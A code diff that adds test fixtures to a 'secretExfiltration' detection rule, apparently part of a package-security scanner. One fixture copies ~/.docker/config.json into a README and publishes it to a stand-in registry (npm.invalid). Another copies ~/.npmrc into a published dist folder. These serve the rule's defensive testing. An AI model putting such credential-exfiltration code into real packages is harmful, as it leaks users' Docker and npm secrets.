@@ -50,6 +50,14 @@ export const secretExfiltration: Rule = {
     examples: {
       flags: [
         {
+          title: 'a function publishes what it found at another registry',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const fs = require('fs'), os = require('os')\nexports.release = () => {\n  fs.writeFileSync('/tmp/p/README.md', fs.readFileSync(os.homedir() + '/.docker/config.json', 'utf8'))\n  require('child_process').execSync('npm publish /tmp/p --registry https://npm.invalid')\n}\n",
+          },
+        },
+        {
           title: 'a hook reads the npm token and posts it',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
@@ -77,6 +85,14 @@ export const secretExfiltration: Rule = {
         },
       ],
       passes: [
+        {
+          title: 'a command publishes with the settings of its user',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
+            'cli.js':
+              "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os')\nfs.writeFileSync('dist/.npmrc', fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))\nrequire('child_process').execSync('npm publish dist --registry https://npm.invalid')\n",
+          },
+        },
         {
           title: 'a hook reads a credential file and keeps it to itself',
           files: {
